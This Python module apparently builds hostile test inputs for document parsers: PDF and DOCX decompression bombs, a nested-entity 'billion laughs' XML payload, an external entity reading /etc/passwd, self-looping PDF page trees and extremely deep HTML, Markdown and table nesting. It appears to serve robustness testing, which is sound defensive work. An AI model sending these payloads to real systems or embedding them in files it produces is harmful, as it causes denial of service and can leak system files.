"""Files that are made to harm who reads them; all are small, whatever they unfold to."""

from __future__ import annotations

import functools
import io
import zipfile
import zlib
from collections.abc import Callable, Sequence

_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 << "
_PAGE += b"/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents %s >>"


def _pdf(objects: Sequence[bytes]) -> bytes:
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\n" % (
        size, table, size
    ) + b"startxref\n%d\n%%%%EOF\n" % len(out)  # fmt: skip


def _stream(data: bytes) -> bytes:
    packed = zlib.compress(data, 9)
    return b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)


def _pages(content: bytes, *streams: bytes, count: int = 1) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            *[_PAGE % content] * count,
            *streams,
        ]
    )


def pdf_shared_streams() -> bytes:
    """Four hundred pages, each of which shows one stream of text four hundred times."""
    text = b"BT /F1 9 Tf 50 700 Td (rare earths) Tj ET\n" * 200
    return _pages(b"404 0 R", _stream(text), b"[" + b"403 0 R " * 400 + b"]", count=400)


def _packed(signs: bytes, times: int) -> bytes:
    """`signs` so many times, packed; the checksum at the end is not computed."""
    packer = zlib.compressobj(9)
    first = packer.compress(signs) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + first[2:] * (times - 1) + b"\x03\x00" + bytes(4)


def pdf_of_zeros() -> bytes:
    """A page of which a megabyte of stream unfolds to a gigabyte of nothing."""
    packed = _packed(bytes(1 << 24), 64)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    return _pages(b"4 0 R", stream % (len(packed), packed))


def pdf_packed_twice() -> bytes:
    """A page whose stream was packed twice: two kilobytes that unfold to half a gigabyte."""
    twice = zlib.compress(_packed(b" " * (1 << 24), 32), 9)
    stream = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
    return _pages(b"4 0 R", stream % (len(twice), twice))


def pdf_loops() -> bytes:
    """Pages that are their own parents, and a stream whose length is itself."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>",
            b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R /Resources 3 0 R >>",
            b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
        ]
    )


def pdf_many_pages() -> bytes:
    """A file that says it has two thousand million pages."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
            _PAGE % b"4 0 R",
            _stream(b"BT /F1 9 Tf (x) Tj ET"),
        ]
    )


def pdf_nested() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    return _pages(b"4 0 R", b"[" * 100_000 + b"]" * 100_000)


def html_comments() -> bytes:
    """Half a megabyte of comments that begin and never end."""
    return b"<html><body><p>x</p>" + b"<!--a" * 97_600


def html_attributes() -> bytes:
    """One element with two hundred thousand attributes."""
    many = b" ".join(b"a%d=1" % i for i in range(200_000))
    return b"<html><body><p " + many + b">rare earths</p></body></html>"


def html_nested() -> bytes:
    """Elements in elements, two hundred thousand deep."""
    return b"<html><body>" + b"<div>" * 200_000 + b"rare earths"


def html_nested_tables() -> bytes:
    """Tables in tables, five thousand deep."""
    return b"<html><body>" + b"<table><tr><td>rare earths" * 5_000


def markdown_nested() -> bytes:
    """Quotations, brackets and emphasis in one another."""
    return b"> " * 20_000 + b"[" * 50_000 + b"*a _" * 50_000


def text_of_openings() -> bytes:
    """The same half a megabyte of comments, as text."""
    return b"x\n\n" + b"<!--a" * 97_600


def _docx(document: bytes | Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELATIONS)
        if isinstance(document, bytes):
            archive.writestr("word/document.xml", document)
        else:
            document(archive)
    return out.getvalue()


@functools.cache
def docx_bomb() -> bytes:
    """A body that unfolds to five hundred million letters."""

    def write(archive: zipfile.ZipFile) -> None:
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f"<w:document {_WORD}><w:body><w:p><w:r><w:t>".encode())
            for _ in range(31):
                part.write(b"a" * (1 << 24))
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")

    return _docx(write)


def docx_liar() -> bytes:
    """The same, whose directory says that it has ten bytes."""
    data = docx_bomb()
    directory = data.rindex(b"PK\x01\x02")
    return data[: directory + 24] + (10).to_bytes(4, "little") + data[directory + 28 :]


def docx_entities() -> bytes:
    """Entities of entities of entities: thousands of millions of laughs."""
    entities = ['<!ENTITY e0 "ha">']
    entities += [f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 11)]
    head = f'<?xml version="1.0"?><!DOCTYPE d [{"".join(entities)}]>'
    body = f"<w:document {_WORD}><w:body><w:p><w:r><w:t>&e10;</w:t></w:r></w:p></w:body>"
    return _docx(f"{head}{body}</w:document>".encode())


def docx_outside_entity() -> bytes:
    """An entity that stands for a file of the system."""
    head = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f"<w:document {_WORD}><w:body><w:p><w:r><w:t>root &x;</w:t></w:r></w:p></w:body>"
    return _docx(f"{head}{body}</w:document>".encode())


def docx_nested() -> bytes:
    """Tables in tables, twenty thousand deep."""
    inner = "<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000
    return _docx(f"<w:document {_WORD}><w:body>{inner}</w:body></w:document>".encode())


HOSTILE: dict[str, Callable[[], bytes]] = {
    "shared-streams.pdf": pdf_shared_streams,
    "zeros.pdf": pdf_of_zeros,
    "packed-twice.pdf": pdf_packed_twice,
    "loops.pdf": pdf_loops,
    "many-pages.pdf": pdf_many_pages,
    "nested.pdf": pdf_nested,
    "comments.html": html_comments,
    "attributes.html": html_attributes,
    "nested.html": html_nested,
    "nested-tables.html": html_nested_tables,
    "nested.md": markdown_nested,
    "openings.txt": text_of_openings,
    "bomb.docx": docx_bomb,
    "liar.docx": docx_liar,
    "entities.docx": docx_entities,
    "outside.docx": docx_outside_entity,
    "nested.docx": docx_nested,
}
